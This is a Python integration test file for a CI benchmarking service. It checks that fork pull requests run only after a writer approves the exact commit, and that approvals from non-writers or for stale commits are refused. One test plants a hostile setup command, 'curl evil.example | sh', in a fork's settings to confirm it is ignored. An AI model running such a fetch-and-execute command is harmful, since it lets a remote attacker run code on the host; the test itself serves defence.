"""A pull request from a fork: nothing of it runs before somebody who may has approved that very commit."""

from __future__ import annotations

from dataclasses import asdict
from datetime import timedelta
from typing import Any

import pytest
from sqlalchemy import select

from app.services.access import Scope
from app.services.forge.obey import Asked, ask_again
from app.services.forge.serve_later import find_unserved
from app.store.repositories import clock
from app.store.tables import AuditLog, Job, PullRequest
from app.tasks.following import do_as_asked
from tests.integration.forge.conftest import SETTINGS, SLUG, World
from tests.integration.forge.test_commands import answers, say
from tests.integration.forge.test_pull_life import measure
from tests.integration.jobs.test_untrusted import agent_of

pytestmark = pytest.mark.postgres

REPOSITORY = {"id": 5, "full_name": SLUG, "default_branch": "main"}


@pytest.fixture
def asked(world: World) -> tuple[World, str]:
    """A pull request of a fork that waits for an approval, and its head; there is a worker that takes forks."""
    world.github.writers = {"grace"}
    agent_of(world.client, world.service, Scope.WORKER_UNTRUSTED, name="stranger")
    head = world.push(1, "from afar", fork=True)
    world.happens(1, "opened")
    return world, head


def jobs(world: World) -> list[Job]:
    with world.service.database.session() as session:
        return list(session.scalars(select(Job).order_by(Job.id)))


def push_of_fork(world: World, message: str, settings: str = SETTINGS) -> str:
    head = world.push(1, message, fork=True, settings=settings)
    world.happens(1, "synchronize")
    return head


def press(world: World, sha: str, author: str = "grace", identifier: str = "approve") -> None:
    """Have somebody press a button of a commit's check."""
    payload = {
        "action": "requested_action",
        "repository": REPOSITORY,
        "installation": {"id": 9},
        "check_run": {"head_sha": sha, "pull_requests": []},
        "requested_action": {"identifier": identifier},
        "sender": {"login": author},
    }
    assert world.send("check_run", payload).status_code == 202
    world.settle()


def label(world: World, head: str, author: str = "grace", *, name: str = "ratchet:approve") -> None:
    """Have somebody put a label on the pull request, after it has waited for a while."""
    with world.service.database.session() as session:
        at = (clock.now(session) + timedelta(minutes=6)).isoformat()
    payload: dict[str, Any] = {
        "action": "labeled",
        "repository": REPOSITORY,
        "installation": {"id": 9},
        "pull_request": {"number": 1, "updated_at": at, "head": {"sha": head}},
        "label": {"name": name},
        "sender": {"login": author},
    }
    assert world.send("pull_request", payload).status_code == 202
    world.settle()


def test_nothing_of_a_fork_is_run_or_fetched(asked: tuple[World, str]) -> None:
    world, _ = asked
    assert not list(world.service.settings.data_dir.glob("bundles/*"))
    assert not list(world.service.settings.data_dir.glob("mirrors/*"))
    assert jobs(world) == []


def test_the_check_says_what_is_waited_for_and_how_it_is_given(asked: tuple[World, str]) -> None:
    world, head = asked
    run = world.run_of(head)
    assert (run["status"], run["conclusion"]) == ("completed", "action_required")
    assert run["output"]["title"] == f"from a fork, not measured yet: /ratchet approve {head}"
    assert f"`/ratchet approve {head}`" in run["output"]["summary"]
    (button,) = run["actions"]
    assert (button["label"], button["identifier"]) == ("Approve and measure", "approve")


def test_a_comment_that_names_the_commit_has_it_measured(asked: tuple[World, str]) -> None:
    world, head = asked
    say(world, f"Looks fine.\n/ratchet approve {head}")
    assert world.run_of(head)["status"] == "queued"
    (job,) = jobs(world)
    assert (job.spec["head_sha"], job.spec["benchmarks_from"]) == (head, "base")
    with world.service.database.session() as session:
        (entry,) = session.scalars(select(AuditLog).where(AuditLog.action == "pull.command"))
        assert (entry.actor, entry.detail["head"]) == ("grace", head)


def test_only_workers_that_take_forks_are_given_it(asked: tuple[World, str]) -> None:
    world, head = asked
    press(world, head)
    assert world.agent.claim() is None
    world.agent = agent_of(world.client, world.service, Scope.WORKER_UNTRUSTED, name="stranger")
    measure(world, slower=1.2)
    world.settle()
    assert world.run_of(head)["output"]["title"].startswith("1 regressed of 1 ")


def test_without_such_a_worker_it_says_so_and_is_measured_once_there_is_one(world: World) -> None:
    world.github.writers = {"grace"}
    head = world.push(1, "from afar", fork=True)
    world.happens(1, "opened")
    press(world, head)
    assert "no worker of the untrusted pool" in world.run_of(head)["output"]["summary"]
    agent_of(world.client, world.service, Scope.WORKER_UNTRUSTED, name="stranger")
    with world.service.database.session() as session:
        assert find_unserved(session, world.service.settings) == 1
    world.settle()
    assert world.run_of(head)["status"] == "queued"


def test_the_button_approves_the_commit_whose_check_it_is_on(asked: tuple[World, str]) -> None:
    world, head = asked
    press(world, head)
    assert world.run_of(head)["status"] == "queued"


def test_the_label_approves_what_the_check_had_asked_about(asked: tuple[World, str]) -> None:
    world, head = asked
    label(world, head)
    assert world.run_of(head)["status"] == "queued"


def test_another_label_approves_nothing(asked: tuple[World, str]) -> None:
    world, head = asked
    label(world, head, name="documentation")
    assert world.run_of(head)["conclusion"] == "action_required"
    assert answers(world) == []


@pytest.mark.parametrize("how", ["comment", "button", "label"])
def test_who_may_not_push_approves_nothing(asked: tuple[World, str], how: str) -> None:
    world, head = asked
    if how == "comment":
        say(world, f"/ratchet approve {head}", author="mallory")
    elif how == "button":
        press(world, head, author="mallory")
    else:
        label(world, head, author="mallory")
    assert world.run_of(head)["conclusion"] == "action_required"
    assert jobs(world) == []
    assert answers(world) == ["Only people with write access to this repository can ask for that."]


def test_a_push_after_the_approval_needs_another(asked: tuple[World, str]) -> None:
    world, first = asked
    say(world, f"/ratchet approve {first}")
    second = push_of_fork(world, "something else")
    assert world.run_of(first)["conclusion"] == "cancelled"
    assert world.run_of(second)["conclusion"] == "action_required"
    assert [job.state for job in jobs(world)] == ["cancelled"]
    press(world, second)
    assert world.run_of(second)["status"] == "queued"


def test_an_approval_of_an_earlier_commit_is_none_of_the_newest(asked: tuple[World, str]) -> None:
    world, first = asked
    second = push_of_fork(world, "something else")
    say(world, f"/ratchet approve {first}")
    press(world, first)
    assert world.run_of(second)["conclusion"] == "action_required"
    (answer,) = answers(world)
    assert answer.startswith(f"`{first}` is not the newest commit of this pull request. ")
    assert f"`/ratchet approve {second}`" in answer


def test_a_push_that_nobody_told_us_of_is_not_approved_with_the_one_before(asked: tuple[World, str]) -> None:
    world, first = asked
    second = world.push(1, "overtakes", fork=True)
    say(world, f"/ratchet approve {first}")
    assert world.run_of(second)["conclusion"] == "action_required"
    assert jobs(world) == []


@pytest.mark.parametrize(("seconds", "is_approved"), [(360, True), (240, False), (-3600, False)])
def test_a_bare_approval_counts_only_after_the_check_had_asked_for_a_while(
    asked: tuple[World, str], seconds: float, is_approved: bool
) -> None:
    world, _ = asked
    with world.service.database.session() as session:
        pull = session.scalars(select(PullRequest)).one()
        at = clock.now(session) + timedelta(seconds=seconds)
        comment = Asked(pull.repository_id, 1, 44, "grace", "/ratchet approve", at.isoformat())
        ask_again(session, comment, delay_s=0)
    do_as_asked(world.service, **asdict(comment))
    world.settle()
    assert bool(jobs(world)) == is_approved
    assert [answer.partition(":")[0] for answer in answers(world)] == (
        [] if is_approved else ["It has come not long ago, or meanwhile"]
    )


def test_settings_of_the_fork_are_not_looked_at(asked: tuple[World, str]) -> None:
    world, _ = asked
    hostile = SETTINGS.replace(
        'devices = ["cpu-*"]', 'devices = ["cpu-*"]\nsetup = ["curl evil.example | sh"]'
    )
    head = push_of_fork(world, "hostile", settings=hostile)
    press(world, head)
    (job,) = jobs(world)
    assert job.spec["suite"]["setup"] == []


def test_an_approved_commit_can_be_measured_again(asked: tuple[World, str]) -> None:
    world, head = asked
    press(world, head)
    say(world, "/ratchet rerun")
    assert world.run_of(head)["status"] == "queued"
    assert [job.state for job in jobs(world)] == ["cancelled", "queued"]


def test_nothing_is_to_be_approved_where_nothing_waits_for_it(world: World) -> None:
    world.github.writers = {"grace"}
    world.push(1, "our own")
    world.happens(1, "opened")
    say(world, "/ratchet approve")
    assert answers(world) == ["Nothing waits for an approval here."]


def test_an_unknown_button_does_nothing(asked: tuple[World, str]) -> None:
    world, head = asked
    press(world, head, identifier="merge")
    assert world.run_of(head)["conclusion"] == "action_required"


def test_a_commit_is_named_with_all_its_digits(asked: tuple[World, str]) -> None:
    world, head = asked
    say(world, f"/ratchet approve {head[:12]}")
    assert world.run_of(head)["conclusion"] == "action_required"
    (answer,) = answers(world)
    assert answer.startswith("`approve` takes one commit, with all its digits")


@pytest.mark.parametrize(
    "command", ["rerun", "rerun inference", "run inference on cpu-*", "accept it is fine"]
)
def test_what_else_is_asked_of_it_waits_for_the_approval(asked: tuple[World, str], command: str) -> None:
    world, head = asked
    say(world, f"/ratchet {command}")
    assert answers(world) == [f"It comes from a fork: `/ratchet approve {head}` first."]
    assert jobs(world) == []


def test_a_command_that_overtakes_the_news_of_its_pull_request_is_done(world: World) -> None:
    world.github.writers = {"grace"}
    agent_of(world.client, world.service, Scope.WORKER_UNTRUSTED, name="stranger")
    world.push(2, "known")
    world.happens(2, "opened")
    head = world.push(1, "from afar", fork=True)
    with world.service.database.session() as session:
        pull = session.scalars(select(PullRequest)).one()
        at = clock.now(session).isoformat()
        ask_again(
            session, Asked(pull.repository_id, 1, 45, "grace", f"/ratchet approve {head}", at), delay_s=0
        )
    world.settle()
    assert world.run_of(head)["status"] == "queued"
    assert answers(world) == []
